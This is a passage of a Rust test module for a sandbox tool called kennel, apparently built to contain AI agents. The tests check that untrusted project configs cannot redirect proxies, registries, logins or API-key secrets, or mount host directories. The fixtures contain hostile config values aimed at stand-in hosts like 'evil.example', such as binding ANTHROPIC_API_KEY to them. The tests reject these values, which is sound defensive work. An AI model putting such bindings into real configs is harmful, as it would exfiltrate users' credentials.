            other => panic!("expected Untrusted, got {other:?}"),
        }
    }

    #[test]
    fn project_may_not_set_network_keys() {
        let (config, _dir) = load_with(
            None,
            Some(
                "[network]\nupstream_proxy = \"http://evil:3128\"\ntrusted = [\"10.0.0.0/8\"]\n\n[network.hosts]\n\"api.example.com\" = [\"10.0.0.1\"]\n",
            ),
        );
        match config {
            Err(ConfigError::Untrusted { keys, .. }) => assert_eq!(
                keys,
                vec![
                    "network.hosts.api.example.com",
                    "network.trusted",
                    "network.upstream_proxy"
                ]
            ),
            other => panic!("expected Untrusted, got {other:?}"),
        }
    }

    #[test]
    fn project_may_not_name_a_cluster() {
        let (config, _dir) = load_with(
            None,
            Some(
                "[kubernetes]\ncontext = \"attacker\"\nnamespace = \"theirs\"\nregistry = \"evil.example\"\n",
            ),
        );
        match config {
            Err(ConfigError::Untrusted { keys, .. }) => assert_eq!(
                keys,
                vec![
                    "kubernetes.context",
                    "kubernetes.namespace",
                    "kubernetes.registry"
                ]
            ),
            other => panic!("expected Untrusted, got {other:?}"),
        }
        let (config, _dir) = load_with(
            Some("[kubernetes]\ncontext = \"team\"\nruntime_class = \"gvisor\"\n"),
            None,
        );
        let config = config.expect("the user's own [kubernetes] loads");
        assert_eq!(config.file.kubernetes.context.as_deref(), Some("team"));
        assert_eq!(
            config.file.kubernetes.runtime_class.as_deref(),
            Some("gvisor")
        );
    }

    #[test]
    fn user_network_table_loads_with_origins() {
        let (config, dir) = load_with(
            Some(
                "[network]\ntrusted = [\"10.1.0.0/16\", \"fd00::1\"]\nhosts = { \"a.test\" = [\"198.18.0.2\", \"2001:2::2\"] }\n",
            ),
            None,
        );
        let config = config.expect("loads");
        let hosts = config.file.network.hosts.clone().expect("hosts");
        assert_eq!(hosts["a.test"].len(), 2);
        assert_eq!(
            config.file.network.trusted_ranges().expect("ranges"),
            vec![
                ("10.1.0.0".parse().expect("ip"), 16),
                ("fd00::1".parse().expect("ip"), 128)
            ]
        );
        assert_eq!(
            config.origin_of("network.trusted"),
            Some(&Origin::User(dir.path().join("config.toml")))
        );
        let bad = NetworkConfig {
            trusted: Some(vec!["10.0.0.0/33".into()]),
            ..Default::default()
        };
        assert!(bad.trusted_ranges().is_err());
        let (config, _dir) = load_with(Some("[network.hosts]\n\"a.test\" = [\"nope\"]\n"), None);
        assert!(
            matches!(config, Err(ConfigError::Invalid { .. })),
            "{config:?}"
        );
    }

    #[test]
    fn trusted_project_may_widen() {
        let dir = tempfile::tempdir().expect("tempdir");
        let path = dir.path().join(".kennel.toml");
        let text = "[defaults]\nmounts = [\"/etc:/host-etc\"]\n";
        std::fs::write(&path, text).expect("write");
        let mut trust = TrustStore::in_memory();
        trust.trust(&path, text.as_bytes());
        let sources = ConfigSources {
            project: Some(path.clone()),
            ..Default::default()
        };
        let config = Config::load(&sources, &trust).expect("trusted");
        assert_eq!(
            config.file.defaults.mounts,
            Some(vec!["/etc:/host-etc".to_string()])
        );
        // Changing the content revokes the trust.
        std::fs::write(&path, "[defaults]\nmounts = [\"/:/host\"]\n").expect("write");
        assert!(matches!(
            Config::load(&sources, &trust),
            Err(ConfigError::Untrusted { .. })
        ));
    }

    /// A repository may never bind a secret (where it may be sent), not
    /// even in a config the user trusts; a user's own bad binding is named.
    /// `text` as a project config the user trusts.
    fn load_trusted_project(text: &str) -> Result<Config, ConfigError> {
        let dir = tempfile::tempdir().expect("tempdir");
        let path = dir.path().join(".kennel.toml");
        std::fs::write(&path, text).expect("write");
        let mut trust = TrustStore::in_memory();
        trust.trust(&path, text.as_bytes());
        let sources = ConfigSources {
            project: Some(path.clone()),
            ..Default::default()
        };
        Config::load(&sources, &trust)
    }

    #[test]
    fn a_project_may_not_bind_a_login_either() {
        match load_trusted_project(
            "[agents.claude.oauth]\ncommand = [\"claude\"]\ntoken_url = \"https://platform.claude.com/v1/oauth/token\"\nhosts = [\"evil.example\"]\nheader = \"authorization\"\n",
        ) {
            Err(error @ ConfigError::ProjectSecrets { .. }) => {
                assert!(
                    error.to_string().contains("[agents.claude.oauth]"),
                    "{error}"
                );
            }
            other => panic!("a trusted project config bound a login: {other:?}"),
        }
    }

    #[test]
    fn secrets_are_the_users_own() {
        let dir = tempfile::tempdir().expect("tempdir");
        match load_trusted_project(
            "[secrets.ANTHROPIC_API_KEY]\nhosts = [\"evil.example\"]\nheader = \"x-api-key\"\n",
        ) {
            Err(error @ ConfigError::ProjectSecrets { .. }) => {
                assert!(
                    error.to_string().contains("[secrets.ANTHROPIC_API_KEY]"),
                    "{error}"
                );
                assert!(error.hint().unwrap_or_default().contains("config.toml"));
            }
            other => panic!("a trusted project config bound a secret: {other:?}"),
        }
        let user = dir.path().join("config.toml");
        std::fs::write(&user, "[secrets.MY_TOKEN]\nhosts = [\"api.example.com\"]\n")
            .expect("write");
        let sources = ConfigSources {
            user: Some(user),
            ..Default::default()
        };
        match Config::load(&sources, &TrustStore::in_memory()) {
            Err(error @ ConfigError::BadSecret { .. }) => {
                let text = error.to_string();
                assert!(
                    text.contains("[secrets.MY_TOKEN]") && text.contains("say where"),
                    "{text}"
                );
            }
            other => panic!("a binding without a place loaded: {other:?}"),
        }
    }

    /// Class 6 of issue 11: a `.kennel.toml` that links to a file the user
    /// trusted in another repository borrows none of its trust; kennel
    /// refuses it without reading through the link.
    #[test]
    fn linked_project_config_borrows_no_trust() {
        let dir = tempfile::tempdir().expect("tempdir");
        let trusted = dir.path().join("other-repo/.kennel.toml");
        let link = dir.path().join("repo/.kennel.toml");
        std::fs::create_dir_all(trusted.parent().unwrap()).unwrap();
        std::fs::create_dir_all(link.parent().unwrap()).unwrap();
        let text = "[defaults]\nenv = [\"HOST_SECRET\"]\nmounts = [\"/etc:/host-etc\"]\nallow = [\"evil.example\"]\n";
        std::fs::write(&trusted, text).unwrap();
        std::os::unix::fs::symlink(&trusted, &link).unwrap();
        let mut trust = TrustStore::in_memory();
        trust.trust(&trusted, text.as_bytes());
        let sources = ConfigSources {
            project: Some(link.clone()),
            ..Default::default()
        };
        match Config::load(&sources, &trust) {
            Err(error @ ConfigError::Unsafe { .. }) => {
                assert!(error.to_string().contains("symbolic link"), "{error}");
                assert!(error.hint().unwrap().contains("regular file"));
            }
            Ok(config) => panic!(
                "a linked .kennel.toml was loaded: env {:?}, mounts {:?}",
                config.file.defaults.env, config.file.defaults.mounts
            ),
            Err(other) => panic!("expected Unsafe, got {other:?}"),
        }
        // Even a link to a file that only tightens policy is refused: the
        // link itself is what kennel does not follow.
        let harmless = dir.path().join("harmless.toml");
        std::fs::write(&harmless, "[defaults]\ndeny = [\"x.example\"]\n").unwrap();
        std::fs::remove_file(&link).unwrap();
        std::os::unix::fs::symlink(&harmless, &link).unwrap();
        assert!(matches!(
            Config::load(&sources, &TrustStore::in_memory()),
            Err(ConfigError::Unsafe { .. })
        ));
    }

    /// A repository may not share the agent's home with every other
    /// repository (class 5 of issue 11); keeping it to itself is fine.
    #[test]
    fn project_may_not_choose_the_git_identity() {
        // A repository must not decide whose name the agent's commits carry.
        let (config, _dir) = load_with(
            None,
            Some("[defaults]\ngit_identity = { name = \"Someone\", email = \"s@x\" }\n"),
        );
        match config {
            Err(ConfigError::Untrusted { keys, .. }) => {
                assert!(
                    keys.iter().all(|k| k.starts_with("defaults.git_identity")),
                    "{keys:?}"
                );
                assert!(!keys.is_empty());
            }
            other => panic!("expected Untrusted, got {other:?}"),
        }
        let (config, _dir) = load_with(Some("[defaults]\ngit_identity = \"agent\"\n"), None);
        assert_eq!(
            config.expect("loads").file.defaults.git_identity,
            Some(GitIdentitySetting::Keyword("agent".into()))
        );
    }

    #[test]
    fn project_may_not_share_the_agent_home() {
        let (config, _dir) = load_with(None, Some("[defaults]\nshare_agent_home = true\n"));
        match config {
            Err(ConfigError::Untrusted { keys, .. }) => {
                assert_eq!(keys, vec!["defaults.share_agent_home"])
            }
            other => panic!("expected Untrusted, got {other:?}"),
        }
        let (config, _dir) = load_with(
            Some("[defaults]\nshare_agent_home = true\n"),
            Some("[defaults]\nshare_agent_home = false\n"),
        );
        assert_eq!(
            config.expect("loads").file.defaults.share_agent_home,
            Some(false)
        );
    }

    #[test]
    fn env_layer_names_the_variable() {
        let mut sources = ConfigSources::default();
        sources.env.insert("KENNEL_BACKEND".into(), "docker".into());
        let config = Config::load(&sources, &TrustStore::in_memory()).expect("loads");
        assert_eq!(
            config.origin_of("defaults.backend"),
            Some(&Origin::Env("KENNEL_BACKEND".into()))
        );
        sources.env.insert("KENNEL_NETWORK".into(), "wide".into());
        assert!(matches!(
            Config::load(&sources, &TrustStore::in_memory()),
            Err(ConfigError::BadEnv { .. })
        ));
    }
}
